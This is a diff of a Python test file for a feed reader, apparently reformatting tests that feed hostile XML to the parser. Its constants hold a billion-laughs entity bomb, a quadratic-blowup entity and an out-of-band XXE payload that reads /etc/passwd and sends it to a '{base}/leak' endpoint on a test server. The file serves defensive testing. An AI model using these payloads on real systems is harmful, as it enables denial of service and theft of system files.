@@ -8,14 +8,12 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+
 from conftest import FeedServer, Response, Result
 from hostile import add, item, rss, run_pass, within
-
 from townsquare.store import Store
 
-LAUGHS = "".join(
-    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
-)
+LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
 BILLION_LAUGHS = f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]>'
 QUADRATIC = '<!DOCTYPE rss [<!ENTITY a "' + "a" * 50_000 + '">]>'
 
@@ -69,7 +67,7 @@ ATTACKS = [
         "parameter entities",
         '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{base}/param.dtd"> %remote; '
         '<!ENTITY % file SYSTEM "file:///etc/passwd">'
-        '<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'{base}/leak?%file;\'>"> %wrap; %send;]>',
+        "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{base}/leak?%file;'>\"> %wrap; %send;]>",
         "&send;",
         "&send;",
         "/param.dtd",
